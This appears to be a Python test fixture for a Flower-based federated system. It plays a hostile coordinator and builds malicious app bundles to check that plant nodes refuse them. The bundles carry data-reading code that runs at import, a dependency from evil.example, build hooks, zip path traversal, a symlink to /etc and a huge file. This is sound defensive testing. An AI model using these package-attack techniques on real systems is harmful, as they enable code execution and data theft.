"""A coordinator that plants must not trust: Flower's own SuperLink, and an operator who sends what he likes.

Plants are real processes of ours. What a bundle of the operator's does when it runs is to leave a mark and read the
heats; what comes back to him is kept.
"""

import hashlib
import io
import sys
import time
import tomllib
import zipfile
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass
from pathlib import Path

import tomli_w
from flwr.app import Message, RecordDict

from federation.engine import LocalPlant, free_port, start, when_ready, write_node
from federation.flower.bundles import bundle
from federation.flower.operator import Operator, RunGrid
from federation.flower.wire import unpacked
from federation.keys.credentials import LOOPBACK, Credentials, make_credentials
from federation.keys.roster import write_roster
from federation.ledger.errors import EngineError
from federation.plant.outbox import Outbox, Sent
from federation.plant.policy import STRICTEST, Policy
from plant_adapters.store.store import HeatStore
from scenarios.bundled import virtual_plant

HEATS = {"northmill": 120, "riverside": 110, "eastport": 100}
START_S, ANSWER_S = 60.0, 30.0
EVIL = """
import os, sqlite3, pathlib
pathlib.Path({mark!r}).mkdir(exist_ok=True)
(pathlib.Path({mark!r}) / (__name__ + "-" + str(os.getpid()))).write_text(os.getcwd())
from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp
from flwr.serverapp import ServerApp
app, server = ClientApp(), ServerApp()

@app.query("hello")
def loot(message, context):
    told = str(context.node_config)
    for path in pathlib.Path({root!r}).glob("*.db"):
        told += str(sqlite3.connect(path).execute("select * from heats limit 3").fetchall())
    return Message(RecordDict({{"loot": ConfigRecord({{"heats": told}})}}), reply_to=message)
"""
"""What a foreign bundle holds: it leaves a mark when it is imported, and answers with heats."""
BOMB_BYTES = 512 * 2**20


@dataclass(frozen=True)
class Answered:
    """What a plant answered: its content, or why there is none."""

    content: RecordDict | None
    reason: str


@dataclass(frozen=True)
class Hostile:
    """A coordinator in the wrong hands, with plants connected.

    Attributes:
        folder: of all of it.
        operator: the line to the SuperLink.
        keys: of the federation.
        plants: their names.
        marks: folder where code that ran leaves a mark.
    """

    folder: Path
    operator: Operator
    keys: Credentials
    plants: tuple[str, ...]
    marks: Path

    def outbox(self, plant: str) -> list[Sent]:
        """What a plant sent and refused."""
        return Outbox(self.folder / "plants" / plant / "outbox.jsonl").lines()

    def ran(self) -> list[str]:
        """Marks of foreign code that ran anywhere."""
        return sorted(mark.name for mark in self.marks.iterdir()) if self.marks.is_dir() else []

    def send(
        self, grid: RunGrid, kind: str, content: RecordDict | dict[str, RecordDict], answer_s: float = ANSWER_S
    ) -> dict[str, Answered]:
        """What plants answer to a message, by name.

        Args:
            grid: of a run.
            kind: of the message.
            content: for all, or by plant.
            answer_s: how long answers are waited for.
        """
        names = grid.names()
        each = content if isinstance(content, dict) and not isinstance(content, RecordDict) else None
        asked = {node: Message(each[name] if each else content, node, kind) for node, name in names.items()}
        numbers = dict(zip(grid.push_messages(list(asked.values())), asked, strict=True))
        found: dict[str, Answered] = {}
        until = time.monotonic() + answer_s
        while numbers and time.monotonic() < until:
            for reply in grid.pull_messages(list(numbers)):
                name = names[numbers.pop(reply.metadata.reply_to_message_id)]
                reason = str(reply.error.reason) if reply.has_error() else ""
                found[name] = Answered(None if reply.has_error() else unpacked(reply.content), reason)
            time.sleep(0.05)
        return found


@contextmanager
def hostile(folder: Path, policy: Policy = STRICTEST, heats: dict[str, int] | None = None) -> Iterator[Hostile]:
    """Start Flower's SuperLink, let our plants join it, and end them on leaving.

    Args:
        folder: for everything.
        policy: of the plants.
        heats: of bundled plants.

    Raises:
        EngineError: a process did not start.
    """
    heats = heats or HEATS
    url = stored_heats(folder, heats)
    keys = make_credentials(folder / "keys", tuple(heats))
    roster = write_roster(keys.roster, {n: keys.plant_public_key(n).read_text("utf-8") for n in heats})
    port = free_port()
    address = f"{LOOPBACK}:{port}"
    with ExitStack() as stack:
        command = [
            str(Path(sys.executable).parent / "flower-superlink"), "--isolation", "process",
            "--ssl-certfile", str(keys.server_certificate), "--ssl-keyfile", str(keys.server_key),
            "--ssl-ca-certfile", str(keys.ca), "--enable-supernode-auth", "--port", str(port), "--host", LOOPBACK,
        ]  # fmt: skip
        superlink, log = start(stack, "superlink", command, folder, {"FLWR_DISABLE_UPDATE_CHECK": "1"})
        stack.callback(superlink.kill)  # it waits for plants that wait for it
        operator = when_ready(lambda: Operator(address, "", keys.ca), superlink, log)
        operator.register(roster)
        for name in heats:
            plant = LocalPlant(name, url, folder / "models", policy=policy)
            settings = write_node(folder / "plants" / name, plant, keys, address)
            start(stack, f"plant-{name}", [sys.executable, "-m", "federation.plant.node", str(settings)], folder)
        until_connected(operator, len(heats))
        yield Hostile(folder, operator, keys, tuple(heats), folder / "marks")


def stored_heats(folder: Path, heats: dict[str, int]) -> str:
    """The address of a database in a folder with so many heats of bundled plants; nothing is trained."""
    store = HeatStore(f"sqlite:///{folder / 'heats.db'}")
    for name, count in heats.items():
        virtual = virtual_plant(name)
        store.add(name, virtual.history(count), virtual.materials)
    store.close()
    return store.absolute_url()


def foreign_bundles(marks: Path, root: Path) -> dict[str, bytes]:
    """Bundles that are not the plants' own, by what is wrong with them.

    Args:
        marks: folder where their code would leave a mark.
        root: folder whose databases it would read.
    """
    code = EVIL.format(mark=str(marks), root=str(root)).encode()
    own = _files(bundle("sums"))
    with_code = {**own, "evil/__init__.py": b"", "evil/client.py": code}
    hook = b"import pathlib\npathlib.Path(" + repr(str(marks)).encode() + b").mkdir(exist_ok=True)\n"
    return {
        "another module": _zipped(_naming(with_code, "evil.client:app")),
        "the right module, another file inside": _zipped(with_code),
        "the right name, a dependency": _zipped(_depending({**own})),
        "a package of the installed name": _zipped(
            {**own, "federation/__init__.py": code, "federation/plant/node.py": code}
        ),
        "a build hook": _zipped(_hooked({**own, "hatch_build.py": hook, "setup.py": hook})),
        "a huge file": _zipped({**own, "evil/huge.py": bytes(BOMB_BYTES)}),
        "a path that climbs out": _zipped({**own, "../../../../../../tmp/evil.py": code}),
        "a symbolic link": _zipped(own, links={"evil": "/etc"}),
        "another version": _zipped(_versioned({**own})),
        "code at import": _zipped({**own, "sitecustomize.py": code, "conftest.py": code}),
    }


def _files(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist() if name != ".info/CONTENT"}


def _project(files: dict[str, bytes]) -> dict[str, object]:
    return tomllib.loads(files["pyproject.toml"].decode())


def _changed(files: dict[str, bytes], **parts: object) -> dict[str, bytes]:
    project = _project(files)
    for key, value in parts.items():
        *path, last = key.split("__")
        inner = project
        for name in path:
            inner = inner[name]  # type: ignore[assignment]
        inner[last] = value
    return {**files, "pyproject.toml": tomli_w.dumps(project).encode()}


def _naming(files: dict[str, bytes], client: str) -> dict[str, bytes]:
    return _changed(files, tool__flwr__app__components__clientapp=client)


def _depending(files: dict[str, bytes]) -> dict[str, bytes]:
    return _changed(files, project__dependencies=["flwr>=1.41", "evil-package @ https://evil.example/evil.tar.gz"])


def _hooked(files: dict[str, bytes]) -> dict[str, bytes]:
    changed = _changed(files, tool__hatch={"build": {"hooks": {"custom": {}}}})
    backend = {"requires": ["hatchling"], "build-backend": "hatch_build", "backend-path": ["."]}
    return {**changed, **_changed(changed, **{"build-system": backend})}


def _versioned(files: dict[str, bytes]) -> dict[str, bytes]:
    return _changed(files, project__version="9.9.9")


def _zipped(files: dict[str, bytes], links: dict[str, str] | None = None) -> bytes:
    found = io.BytesIO()
    with zipfile.ZipFile(found, "w", zipfile.ZIP_DEFLATED) as archive:
        lines = []
        for name, content in files.items():
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
            lines.append(f"{name},{hashlib.sha256(content).hexdigest()},{len(content) * 8}")
        for name, target in (links or {}).items():
            info = zipfile.ZipInfo(name)
            info.external_attr = 0o120777 << 16
            archive.writestr(info, target)
        archive.writestr(".info/CONTENT", "\n".join(lines))
    return found.getvalue()


def until_connected(operator: Operator, plants: int) -> None:
    """Wait for plants.

    Raises:
        EngineError: they do not connect in time.
    """
    until = time.monotonic() + START_S
    while time.monotonic() < until:
        if sum(node.status == "online" for node in operator.nodes()) == plants:
            return
        time.sleep(0.2)
    raise EngineError(f"not all of {plants} plants connected")
